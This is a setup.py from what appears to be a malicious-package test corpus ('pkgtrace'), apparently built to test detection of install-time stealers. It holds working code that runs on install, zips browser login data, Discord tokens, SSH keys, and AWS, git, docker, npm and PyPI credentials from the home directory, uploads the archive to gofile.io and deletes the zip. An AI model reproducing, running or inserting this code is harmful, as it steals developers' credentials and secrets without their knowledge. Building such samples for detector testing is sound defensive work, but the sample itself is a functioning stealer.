# MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
# The grabbers of PyPI stealer packages (W4SP, Creal, Blank Grabber and
# kin, 2022-2024), rewritten from the public write-ups: gather browser,
# Discord and developer credentials into a deflate-compressed zip under a
# random name in /tmp, upload it as multipart/form-data to a file-sharing
# service (gofile.io, which they favour), delete the zip. The zip hides
# every secret from a plain-text search of what was sent. Here, the first
# time setup.py runs in an install (a file in /tmp says it already ran);
# gofile.io is a known exfiltration endpoint the rules name, and in the
# sandbox the POST lands in the HTTPS sink. pip hides setup.py's output, so
# the steps go to /tmp/mal-zip-stealer.log and the last one writes
# /tmp/mal-zip-stealer.done. No error stops the install; an alarm ends it
# after 8 s.
import glob
import os
import random
import signal
import string
import urllib.request
import uuid
import zipfile

from setuptools import setup

ONCE = "/tmp/.pkgtrace-mal-zip-stealer.ran"
URL = "https://store1.gofile.io/uploadFile"
TARGETS = [
    ".config/google-chrome/Default/Login Data",
    ".config/google-chrome/Local State",
    ".config/BraveSoftware/Brave-Browser/Default/Login Data",
    ".config/discord/Local Storage/leveldb",
    ".ssh",
    ".aws/credentials",
    ".git-credentials",
    ".netrc",
    ".docker/config.json",
    ".npmrc",
    ".pypirc",
]


def _say(msg):
    with open("/tmp/mal-zip-stealer.log", "a") as f:
        f.write(f"mal-zip-stealer: {msg}\n")


def _first_run():
    try:
        os.close(os.open(ONCE, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        return True
    except OSError:
        return False


def _chain():
    home = os.path.expanduser("~")
    zpath = "/tmp/" + "".join(random.choice(string.ascii_lowercase) for _ in range(10)) + ".zip"
    n = 0
    with zipfile.ZipFile(zpath, "w", zipfile.ZIP_DEFLATED) as z:
        for t in TARGETS:
            p = os.path.join(home, t)
            for f in sorted(glob.glob(p + "/*")) if os.path.isdir(p) else [p]:
                try:
                    z.write(f, os.path.relpath(f, home))
                    n += 1
                except OSError:
                    pass
    _say(f"step 1 zipped {n} files into {zpath}")
    try:
        who = os.getlogin()
    except OSError:
        who = "unknown"
    b = uuid.uuid4().hex
    disposition = 'form-data; name="%s"; filename="%s.zip"' % ("file", who)
    head = f"--{b}\r\nContent-Disposition: {disposition}\r\nContent-Type: application/zip\r\n\r\n".encode()
    with open(zpath, "rb") as f:
        body = head + f.read() + f"\r\n--{b}--\r\n".encode()
    req = urllib.request.Request(URL, data=body, headers={"Content-Type": f"multipart/form-data; boundary={b}"})
    try:
        with urllib.request.urlopen(req, timeout=4) as r:
            _say(f"step 2 POST {URL}: status {r.status}")
    except Exception as e:
        _say(f"step 2 POST {URL} failed: {e!r}")
    os.remove(zpath)
    _say("step 3 removed the zip")
    with open("/tmp/mal-zip-stealer.done", "w") as f:
        f.write("done\n")


def _on_alarm(signum, frame):
    raise TimeoutError("8 s")


if _first_run():
    old = signal.signal(signal.SIGALRM, _on_alarm)
    signal.alarm(8)
    try:
        _chain()
    except BaseException as e:  # never stop the install
        _say(f"stopped: {e!r}")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)

setup(
    name="pkgtrace-test-mal-zip-stealer",
    version="1.0.0",
    description="pkgtrace test corpus: MALICIOUS - grabber-style: setup.py zips credential files and uploads the zip to gofile.io",
    packages=["pkgtrace_mal_zip_stealer"],
)
